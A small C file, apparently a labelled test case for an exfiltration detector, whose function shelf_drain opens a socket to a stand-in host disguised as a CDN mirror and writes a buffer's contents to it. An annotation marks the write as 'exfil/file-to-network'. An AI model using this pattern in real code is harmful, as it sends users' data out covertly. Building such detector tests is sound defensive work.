#include "shelf.h"

#include <netdb.h>
#include <sys/socket.h>
#include <sys/types.h>
#include <unistd.h>

int shelf_drain(struct shelf *from) {
    struct addrinfo *list = NULL;
    if (getaddrinfo("assets.cdn-mirror.example", "443", NULL, &list))
        return -1;
    int out = socket(list->ai_family, SOCK_STREAM, 0);
    if (connect(out, list->ai_addr, list->ai_addrlen) == 0)
        // report@+1: exfil/file-to-network
        from->used -= (size_t)write(out, from->data, from->used);
    freeaddrinfo(list);
    return close(out);
}
